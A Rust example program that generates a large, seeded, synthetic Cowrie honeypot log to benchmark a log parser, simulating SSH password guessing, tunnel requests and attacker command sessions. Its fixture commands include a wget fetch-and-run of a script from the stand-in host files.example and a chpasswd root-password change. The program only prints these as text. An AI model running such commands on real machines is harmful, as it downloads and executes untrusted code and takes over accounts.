//! Writes a large log in the form of Cowrie to stdout, for measuring speed.
//!
//! ```text
//! cargo run --release --example large_log [BYTES [SEED]] > /tmp/cowrie.json
//! ```
//!
//! About a week of one busy honeypot: six of ten sessions guess passwords, a quarter ask for tunnels,
//! the rest type commands; a tunnel now and then carries data. Few sources and hosts come often,
//! most come seldom. The log ends with the first session past so many bytes (a gigabyte if none
//! is given); what is in it is told on stderr. The same seed gives the same bytes.

#![expect(clippy::print_stderr, reason = "an example speaks to its user")]

use std::collections::BTreeSet;
use std::io::{self, BufWriter, Write};

/// In microseconds since the day began, Monday 2026-03-02.
const WEEK: u64 = 7 * 24 * 3_600_000_000;
/// About the bytes of a session, to spread the sessions over the week.
const SESSION_BYTES: u64 = 4_200;

const SOURCES: u64 = 30_000;
const HOSTS: u64 = 6_000;
const PORTS: [u16; 12] = [443, 443, 443, 443, 80, 80, 25, 25, 587, 465, 993, 22];
const COMMANDS: [&str; 6] = [
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
    "cd /tmp || cd /var/run; wget http://files.example/a.sh; chmod 777 a.sh; sh a.sh",
    r#"echo \"root:abc\"|chpasswd|bash"#,
    r#"grep '\"eventid\":\"cowrie.direct-tcpip.request\",\"dst_ip\":\"decoy.example\"' log"#,
];
const ALGORITHMS: &str = "curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,\
    ecdh-sha2-nistp384,ecdh-sha2-nistp521,diffie-hellman-group14-sha256;aes128-ctr,aes192-ctr,\
    aes256-ctr,aes128-gcm@openssh.com,chacha20-poly1305@openssh.com;hmac-sha2-256,hmac-sha1;none";

fn main() -> io::Result<()> {
    let mut numbers = std::env::args().skip(1).map(|text| {
        text.parse::<u64>().map_err(|_| io::Error::other(format!("`{text}` is no number")))
    });
    let bytes = numbers.next().transpose()?.unwrap_or(1_000_000_000);
    let seed = numbers.next().transpose()?.unwrap_or(1);
    let mut log = Log {
        out: BufWriter::with_capacity(1 << 20, io::stdout().lock()),
        random: Random(seed),
        now: 0,
        step: (WEEK / (bytes / SESSION_BYTES + 1)).max(1),
        written: 0,
        lines: 0,
        requests: 0,
        links: BTreeSet::new(),
    };
    while log.written < bytes {
        log.session()?;
    }
    log.out.flush()?;
    let Log { written, lines, requests, links, .. } = log;
    let links = links.len();
    eprintln!("{written} bytes, {lines} lines, {requests} tunnel requests, {links} links");
    Ok(())
}

struct Log<W: Write> {
    out: W,
    random: Random,
    now: u64,
    /// Mean time from one session to the next.
    step: u64,
    written: u64,
    lines: u64,
    requests: u64,
    links: BTreeSet<(u64, u16, u64)>,
}

/// What the lines of a session have in common.
struct Session {
    source: u64,
    address: String,
    id: u64,
}

impl<W: Write> Log<W> {
    fn session(&mut self) -> io::Result<()> {
        self.now += self.random.below(2 * self.step);
        let source = self.random.often(SOURCES);
        let address = format!("10.{}.{}.{}", source % 89, source / 89 % 251, 1 + source % 253);
        let session = Session { source, address, id: self.random.bits() >> 16 };
        let port = 1024 + self.random.below(60_000);
        let address = &session.address;
        let fields = format!(
            r#""src_port":{port},"dst_ip":"172.17.0.2","dst_port":2222,"protocol":"ssh","message":"New connection: {address}:{port} (172.17.0.2:2222)""#
        );
        self.line(&session, "session.connect", &fields)?;
        let version = r#""version":"SSH-2.0-Go","message":"Remote SSH version: SSH-2.0-Go""#;
        self.line(&session, "client.version", version)?;
        let hassh = format!("{:032x}", source % 40);
        let fields = format!(
            r#""hassh":"{hassh}","hasshAlgorithms":"{ALGORITHMS}","message":"SSH client hassh fingerprint: {hassh}""#
        );
        self.line(&session, "client.kex", &fields)?;
        match self.random.below(100) {
            0..60 => self.guesses(&session)?,
            60..86 => self.tunnels(&session)?,
            _ => self.commands(&session)?,
        }
        let closed = r#""duration":12.5,"message":"Connection lost after 12 seconds""#;
        self.line(&session, "session.closed", closed)
    }

    fn guesses(&mut self, session: &Session) -> io::Result<()> {
        for _ in 0..=self.random.below(5) {
            let password = self.random.often(20_000);
            let fields = format!(
                r#""username":"root","password":"pass{password}","message":"login attempt [root/pass{password}] failed""#
            );
            self.line(session, "login.failed", &fields)?;
        }
        Ok(())
    }

    fn enter(&mut self, session: &Session) -> io::Result<()> {
        let fields = r#""username":"root","password":"root","message":"login attempt [root/root] succeeded""#;
        self.line(session, "login.success", fields)
    }

    fn tunnels(&mut self, session: &Session) -> io::Result<()> {
        self.enter(session)?;
        for _ in 0..10 + self.random.below(28) {
            let host = self.random.often(HOSTS);
            let name = format!("www{host}.example");
            let port = PORTS[self.random.below(12) as usize];
            let claimed = 1024 + self.random.below(60_000);
            let fields = format!(
                r#""dst_ip":"{name}","dst_port":{port},"src_port":{claimed},"message":"direct-tcp connection request to {name}:{port} from 127.0.0.1:{claimed}""#
            );
            self.line(session, "direct-tcpip.request", &fields)?;
            self.requests += 1;
            self.links.insert((session.source, port, host));
            if self.random.below(7) == 0 {
                let sent =
                    format!(r"b'GET / HTTP/1.1\\r\\nHost: {name}\\r\\nAccept: */*\\r\\n\\r\\n'");
                let fields = format!(
                    r#""dst_ip":"{name}","dst_port":{port},"data":"{sent}","id":1,"message":"discarded direct-tcp forward request 1 to {name}:{port} with data {sent}""#
                );
                self.line(session, "direct-tcpip.data", &fields)?;
            }
        }
        Ok(())
    }

    fn commands(&mut self, session: &Session) -> io::Result<()> {
        self.enter(session)?;
        for _ in 0..4 + self.random.below(10) {
            let command = COMMANDS[self.random.below(6) as usize];
            let fields = format!(r#""input":"{command}","message":"CMD: {command}""#);
            self.line(session, "command.input", &fields)?;
        }
        Ok(())
    }

    fn line(&mut self, session: &Session, event: &str, fields: &str) -> io::Result<()> {
        // The lines of a session follow each other closely.
        self.now += 1_000;
        let seconds = self.now / 1_000_000;
        let (day, hour) = (2 + seconds / 86_400, seconds / 3_600 % 24);
        let (minute, second, micro) = (seconds / 60 % 60, seconds % 60, self.now % 1_000_000);
        let Session { address, id, .. } = session;
        let line = format!(
            r#"{{"eventid":"cowrie.{event}",{fields},"sensor":"large","timestamp":"2026-03-{day:02}T{hour:02}:{minute:02}:{second:02}.{micro:06}Z","src_ip":"{address}","session":"{id:012x}"}}
"#
        );
        self.written += line.len() as u64;
        self.lines += 1;
        self.out.write_all(line.as_bytes())
    }
}

/// `SplitMix64` (Steele, Lea and Flood 2014).
struct Random(u64);

impl Random {
    fn bits(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut bits = self.0;
        bits = (bits ^ (bits >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        bits = (bits ^ (bits >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        bits ^ (bits >> 31)
    }

    /// Below `end`, which is not 0.
    fn below(&mut self, end: u64) -> u64 {
        ((u128::from(self.bits()) * u128::from(end)) >> 64) as u64
    }

    /// Below `end`, small numbers far more often than large ones: each doubling is as likely as
    /// the one before.
    fn often(&mut self, end: u64) -> u64 {
        let doublings = u64::from(end.ilog2()) + 1;
        let top = 1 << (1 + self.below(doublings));
        self.below(end.min(top))
    }
}
